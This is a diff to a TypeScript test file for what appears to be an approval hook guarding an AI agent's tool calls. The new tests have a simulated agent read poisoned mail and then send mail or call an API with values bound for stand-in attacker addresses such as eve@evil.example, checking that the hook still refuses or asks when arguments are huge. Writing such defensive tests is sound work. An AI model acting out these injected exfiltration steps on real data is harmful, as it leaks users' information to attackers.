@@ -291,3 +291,47 @@ describe("an approval", () => {
     assert.deepStrictEqual(questions.map(({ tool }) => tool), ["add_comment", "delete_file"])
   })
 })
+
+describe("sizes", () => {
+  it("of a call with thousands of values are refused, because nobody can judge them", async () => {
+    const to = Array.from({ length: 5_000 }, (_, index) => `u${index}@evil.example`)
+    const { errors, questions } = await converse({
+      tools: { read_mail: poison, send_mail: "ok" },
+      steps: [[["read_mail", {}]], [["send_mail", { to }]]]
+    })
+    assert.lengthOf(questions, 0)
+    assert.match(errors[0]!, /none of 5000 of its values/)
+  })
+
+  it("of a question with many values stay readable", async () => {
+    const to = Array.from({ length: 100 }, (_, index) => `u${index}@evil.example`)
+    const question = await afterReading(poison, "send_mail", { to })
+    assert.match(question!.reason, /and 80 more values$/)
+  })
+
+  it("of a result with many names do not make it unreadable", async () => {
+    const wide = Object.fromEntries(
+      Array.from({ length: 20_000 }, (_, index) => [`${"name".repeat(8)}${index}`, `a value ${index}`])
+    )
+    const { errors, questions } = await converse({
+      tools: { read_mail: wide, send_mail: "ok" },
+      steps: [[["read_mail", {}]], [["send_mail", { to: "eve@evil.example" }]]]
+    })
+    assert.deepStrictEqual([errors.length, questions.length], [1, 1])
+  })
+
+  it("of names of arguments do not stop the hook", async () => {
+    const { questions } = await converse({
+      tools: { read_mail: poison, call_api: "ok" },
+      steps: [
+        [["read_mail", {}]],
+        ...Array.from(
+          { length: 3 },
+          (_, index) => [["call_api", { ["x".repeat(60_000) + index]: "eve@evil.example" }] as const]
+        )
+      ]
+    })
+    assert.isNotEmpty(questions)
+    assert.isBelow(questions[0]!.reason.length, 1_000)
+  })
+})
